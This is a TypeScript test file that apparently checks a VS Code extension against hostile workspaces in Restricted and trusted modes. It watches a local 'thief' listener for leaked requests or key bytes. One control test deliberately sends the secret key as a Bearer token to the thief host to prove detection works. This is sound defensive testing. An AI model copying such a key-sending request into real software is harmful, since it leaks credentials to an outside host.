/** Hostile workspaces, first in Restricted Mode and then trusted (docs/security.md, Hostile workspaces). */
import assert from 'node:assert/strict';
import { appendFileSync, globSync, readFileSync, statSync } from 'node:fs';
import { get } from 'node:http';
import { join } from 'node:path';
import { after, afterEach, before, beforeEach, describe, it } from 'mocha';
import * as vscode from 'vscode';
import { until } from '../scripted.ts';
import { ATTACKS, type Attack } from './attacks.ts';
import { CHECKS, noteListeners } from './checks.ts';
import { playsGuards, withoutGuards } from './guards.ts';
import {
  assertNothingGiven,
  connect,
  disconnect,
  endTest,
  execute,
  lookAtAll,
  play,
  startTest,
} from './playing.ts';
import {
  contentsOf,
  folders,
  heard,
  heardOfKeys,
  heardRequests,
  KEY,
  pathIn,
  profile,
  thief,
} from './stage.ts';

let contents: Readonly<Record<string, Readonly<Record<string, string>>>>;
let played = 0;
let summary: string | undefined;

const allContents = () => Object.fromEntries(folders().map(({ name }) => [name, contentsOf(pathIn(name))]));

describe('Hostile workspaces', () => {
  before(async () => {
    noteListeners();
    await connect();
    // The editor reads the workspace file while it starts, and on a busy machine the extension host can be sooner.
    await until(() => (vscode.workspace.workspaceFolders ?? []).length > 0);
    contents = allContents();
  });

  beforeEach(startTest);
  afterEach(endTest);

  after(async () => {
    await disconnect();
    // With a guard off, the thief hears what it should not.
    if (playsGuards) return;
    appendFileSync(process.env['K3_TEST_OUTPUT'] ?? '/dev/null', `\n  ${summary ?? summarize()}\n`);
  });

  it('have a folder for each attack, and an attack for each folder', () => {
    assert.deepEqual(
      ATTACKS.map(({ folder }) => folder).toSorted(),
      folders().map(({ name }) => name),
    );
  });

  describe('in Restricted Mode', () => {
    it('are not trusted', () => assert.equal(vscode.workspace.isTrusted, false));
    if (playsGuards) withoutGuards(true, playIn);
    else playAll();
  });

  describe('that are trusted', () => {
    before(async () => {
      await execute('workbench.trust.manage');
      await until(() => vscode.workspace.isTrusted, 50_000);
      await execute('workbench.action.closeAllEditors');
    });
    if (playsGuards) withoutGuards(false, playIn);
    else playAll();
  });

  describe('with the thief', () => {
    it('would have been found out: the thief hears what is sent to it', async () => {
      summary = summarize();
      const stolen = heardOfKeys();
      await new Promise((resolve, reject) => {
        const headers = { authorization: `Bearer ${KEY}` };
        get(`http://${thief}/control`, { headers }, resolve).on('error', reject);
      });
      assert.match(heard(), /GET \/control/);
      assert.ok(heardOfKeys() > stolen);
    });
  });
});

/** Printed at the end of the run. The thief must have heard nothing. */
const summarize = () =>
  `hostile workspaces: ${played} folders × 2, requests to thief ${heardRequests()}, bytes of the key ${heardOfKeys()}`;

async function playAttack(attack: Attack): Promise<void> {
  const turn = await play(attack);
  await CHECKS[attack.folder]?.(turn);
  assertNothingGiven();
}

/** The attack of a folder, as a test of its own. */
async function playIn(folder: string): Promise<void> {
  const attack = ATTACKS.find((one) => one.folder === folder);
  assert.ok(attack, folder);
  await endTest();
  startTest();
  await playAttack(attack);
  assert.deepEqual(contentsOf(pathIn(folder)), contents[folder], 'its files changed');
}

function playAll(): void {
  it('cause no request when they are opened and looked at', lookAtAll);

  for (const attack of ATTACKS) {
    it(`${attack.folder}: ${attack.title}`, async () => {
      await playAttack(attack);
      played += 0.5;
      // A busy machine reads a huge file for more than a minute.
    });
  }

  it('have the files that they had, and nothing of the key', () => {
    assert.deepEqual(allContents(), contents);
    assertNoKeyIn(profile);
  });
}

function assertNoKeyIn(folder: string): void {
  const found = globSync('**/*', { cwd: folder, exclude: ['heard.bin'] }).filter((name) => {
    const path = join(folder, name);
    const stat = statSync(path, { throwIfNoEntry: false });
    return stat?.isFile() && stat.size < 50_000_000 && readFileSync(path).includes(KEY);
  });
  assert.deepEqual(found, []);
}
